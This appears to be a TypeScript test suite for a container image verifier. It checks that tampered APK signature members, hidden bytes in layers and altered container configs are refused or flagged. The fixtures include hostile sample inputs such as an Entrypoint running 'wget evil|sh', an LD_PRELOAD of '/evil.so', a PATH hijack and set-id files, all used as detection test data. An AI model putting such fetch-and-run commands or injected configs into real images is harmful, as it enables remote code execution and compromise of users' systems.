import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { gunzipSync, gzipSync } from 'node:zlib';
import { ingest } from '../../../src/app/archives/ingest.ts';
import { ANNOTATIONS } from '../../../src/compose/annotations.ts';
import type { VerifyReport } from '../../../src/model/verify-report.ts';
import { makeApk, makeApkMembers } from '../../fixtures/apk.ts';
import { writeApkKeyring } from '../../fixtures/mirror-dir.ts';
import { END_OF_ARCHIVE, type FixtureFile, tarEntries } from '../../fixtures/tar.ts';
import { tempDir } from '../../fixtures/temp.ts';
import type { TestLayer } from '../../output/images.ts';
import { KEY, source, use } from '../harness.ts';
import { archives, BASE, imageTar, installFiles, problemsOf, purl, TOOL, verified } from './verify-images.ts';

const PACKAGES = [BASE, TOOL];
const member = (files: readonly FixtureFile[]): Buffer => gzipSync(tarEntries(files));
const { signature, control, data } = makeApkMembers(TOOL);
/** The signature member with other words in its headers. */
const SIGNATURE_TAR = gunzipSync(signature);

function withBlob(blob: Uint8Array): readonly TestLayer[] {
  return [...archives([BASE]), { blob }, { tar: installFiles(PACKAGES) }];
}

/** What, path and size of all that no signature covers. */
function unsignedOf({ layers }: VerifyReport): readonly string[] {
  return layers.flatMap(({ at, unsigned }) =>
    unsigned.map(({ what, path, sizeBytes }) => `${at} ${what} ${path ?? '-'} ${sizeBytes ?? '?'}`),
  );
}

test('a set-id file, an attribute or more than a signature before the control member is refused', async (t) => {
  for (const file of [
    { path: '.SIGN.X.evil', content: 'ELF', mode: 0o4755 },
    { path: '.SIGN.RSA.other.rsa.pub', content: 'ELF', mode: 0o2755 },
    { path: '.SIGN.X.evil', content: 'x'.repeat(3_000_000) },
    { path: '.SIGN.X.evil', content: 'x', xattrs: { 'security.capability': 'AQAAAg==' } },
    { path: '.SIGN.X', content: 'x', mode: 0o4755 },
  ] satisfies readonly FixtureFile[]) {
    for (const blob of [
      Buffer.concat([member([file]), signature, control, data]),
      Buffer.concat([signature, member([file]), control, data]),
    ]) {
      const report = await verified(t, await imageTar(t, withBlob(blob)));
      assert.deepEqual(problemsOf(report), ['SIGNATURE 1'], JSON.stringify(file).slice(0, 100));
      assert.equal(report.layers[1]?.kind, 'refused');
      assert.equal(report.verified, false);
    }
  }
});

test('an entry other than a verified signature is listed, and so are headers, empty members and header fields', async (t) => {
  const evil = member([{ path: '.SIGN.X.evil', content: 'ELF', mode: 0o755 }]);
  const stranger = member([{ path: `.SIGN.RSA.stranger.rsa.pub`, content: 'x'.repeat(256) }]);
  const named = gzipSync(SIGNATURE_TAR);
  const fields = Buffer.concat([
    named.subarray(0, 3),
    Buffer.from([0x08]),
    named.subarray(4, 10),
    Buffer.from('hidden\0'),
    named.subarray(10),
  ]);
  const padded = Buffer.from(SIGNATURE_TAR);
  padded[512 + 256] = 0x41;
  for (const [first, found] of [
    [Buffer.concat([evil, signature]), '1 an entry other than a verified signature .SIGN.X.evil 3'],
    [
      Buffer.concat([signature, stranger]),
      '1 an entry other than a verified signature .SIGN.RSA.stranger.rsa.pub 256',
    ],
    [Buffer.concat([gzipSync(''), signature]), '1 an empty gzip member - 20'],
    [fields, '1 gzip header fields - 7'],
    [gzipSync(padded), '1 bytes between the entries of its tar - ?'],
  ] as const) {
    const report = await verified(t, await imageTar(t, withBlob(Buffer.concat([first, control, data]))));
    assert.deepEqual(report.problems, []);
    assert.deepEqual(unsignedOf(report), [found]);
  }
  const sound = await verified(t, await imageTar(t, withBlob(makeApk(TOOL))));
  assert.deepEqual(unsignedOf(sound), []);
});

test('what the catalog remembers of an archive hides nothing of it', async (t) => {
  const cache = tempDir(t);
  const evil = Buffer.concat([signature, member([{ path: '.SIGN.X.evil', content: 'ELF' }]), control, data]);
  const folder = tempDir(t);
  writeFileSync(join(folder, 'evil.apk'), evil);
  const keyring = writeApkKeyring(tempDir(t), [KEY]);
  await use({ cache }, (context) => ingest(context, { source: source({ keyring }), inputs: [folder] }));
  const report = await verified(t, await imageTar(t, withBlob(evil)), { cache, trust: { keyring } });
  assert.deepEqual(unsignedOf(report), ['1 an entry other than a verified signature .SIGN.X.evil 3']);
  // Nor is it a file of the package, wherever it shows.
  const files = [...installFiles(PACKAGES), { path: '.SIGN.X.evil', content: 'ELF' }];
  const shown = await verified(t, await imageTar(t, [...archives([BASE]), { blob: evil }, { tar: files }]), {
    cache,
    trust: { keyring },
  });
  assert.equal(shown.layers[2]?.verdicts.find(({ path }) => path === '.SIGN.X.evil')?.origin, 'generated');
});

test('bytes that a made layer carries beside its entries are listed', async (t) => {
  const cache = tempDir(t);
  const folder = tempDir(t);
  for (const spec of PACKAGES) writeFileSync(join(folder, `${spec.name}.apk`), makeApk(spec));
  const keyring = writeApkKeyring(tempDir(t), [KEY]);
  await use({ cache }, (context) => ingest(context, { source: source({ keyring }), inputs: [folder] }));
  const files = PACKAGES.flatMap(({ files: own = [] }) => own);
  const tar = Buffer.concat([tarEntries(files), END_OF_ARCHIVE]);
  const skippable = Buffer.from('502a4d180400000045564946', 'hex');
  const layers = (first: TestLayer): readonly TestLayer[] => [first, { tar: installFiles(PACKAGES) }];
  const layerAnnotations = [{ [ANNOTATIONS.purl]: PACKAGES.map(purl).join(' ') }];
  const commented = files.map((file, at) => (at === 1 ? { ...file, pax: { comment: 'hidden' } } : file));
  for (const [image, found] of [
    [
      await imageTar(t, layers({ tar, encoding: 'zstd', trailer: skippable }), { layerAnnotations }),
      ['0 a skippable zstd frame - 12'],
    ],
    [
      await imageTar(t, layers({ tar: commented }), { layerAnnotations }),
      ['0 pax records (comment) bin/sh 6'],
    ],
    [await imageTar(t, layers({ tar }), { layerAnnotations }), []],
  ] as const) {
    const report = await verified(t, image, { cache, trust: { keyring } });
    assert.deepEqual(report.problems, []);
    assert.deepEqual(unsignedOf(report), found);
  }
});

test('with --allow-untrusted nothing is said to be the distribution’s', async (t) => {
  const image = await imageTar(t, [
    ...archives([BASE, { ...TOOL, key: null }]),
    { tar: installFiles(PACKAGES) },
  ]);
  const report = await verified(t, image, { trust: { allowUntrusted: true } });
  assert.deepEqual(report.problems, []);
  assert.deepEqual([report.packages, report.unverifiedPackages, report.verified], [2, 1, false]);
  // What is signed is still known as signed.
  assert.deepEqual(report.layers[0]?.packages[0]?.vouching, { by: 'signature', key: KEY.name });
  const sound = await verified(t, await imageTar(t, withBlob(makeApk(TOOL))), {
    trust: { allowUntrusted: true },
  });
  assert.deepEqual([sound.packages, sound.unverifiedPackages, sound.verified], [2, 0, true]);
});

test('what a container runs is told, and whether it is what compose writes', async (t) => {
  const path = '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin';
  const told = async (config: unknown, key = 'config') => {
    const image = await imageTar(t, withBlob(makeApk(TOOL)), {
      config: { config: undefined, [key]: config },
    });
    return (await verified(t, image)).config;
  };
  const composed = { Env: [`PATH=${path}`], Cmd: ['/bin/sh'] };
  assert.deepEqual(await told(composed), {
    asComposed: true,
    settings: { 'Env PATH': path, Cmd: '["/bin/sh"]' },
  });
  for (const [more, name] of [
    [{ Entrypoint: ['sh', '-c', 'wget evil|sh'] }, 'Entrypoint'],
    [{ Env: [`PATH=${path}`, 'LD_PRELOAD=/evil.so'] }, 'Env LD_PRELOAD'],
    [{ Env: ['PATH=/evil', `PATH=${path}`] }, 'Env PATH'],
    [{ Env: [`PATH=/evil:${path}`] }, 'Env PATH'],
    [{ Cmd: ['/bin/sh', '-c', 'evil'] }, 'Cmd'],
    [{ Cmd: ['/evil'] }, 'Cmd'],
    [{ OnBuild: ['RUN evil'] }, 'OnBuild'],
    [{ User: '0' }, 'User'],
    [{ Shell: ['/evil'] }, 'Shell'],
    [{ Volumes: { '/x': {} } }, 'Volumes /x'],
    [{ Healthcheck: { Test: ['CMD', 'evil'] } }, 'Healthcheck Test'],
    [{ WorkingDir: '/tmp' }, 'WorkingDir'],
    [{ StopSignal: 'SIGKILL' }, 'StopSignal'],
    [{ Labels: { a: 'b' } }, 'Labels a'],
    [{ entrypoint: ['/evil'] }, 'entrypoint'],
  ] as const) {
    const { asComposed, settings } = await told({ ...composed, ...more });
    assert.equal(asComposed, false, name);
    assert.ok(settings[name] !== undefined, name);
  }
  assert.equal((await told({ ...composed, User: 'x' }, 'Config')).settings.User, 'x');
});
